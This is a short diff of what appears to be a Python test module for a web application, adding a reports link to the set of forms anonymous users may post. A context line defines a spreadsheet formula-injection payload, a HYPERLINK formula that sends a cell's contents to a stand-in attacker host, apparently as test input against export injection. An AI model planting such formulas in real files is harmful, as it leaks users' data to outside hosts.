@@ -66,7 +66,7 @@ NO_TEXT_FIELDS = {
 # The forms of someone not signed in: posted by the tests at the end of this module.
 # The reply from a personal link is the same ReplyForm as meetings.reply (which the crawl posts).
 ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code", "reminders_link.reply",
-                   "circulars_link.link_show"}
+                   "circulars_link.link_show", "reports_link.link_report"}
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # The Hindi of WTForms' Length messages: "अधिकतम %(max)d अक्षर …", "… %(min)d से %(max)d अक्षरों के बीच …".
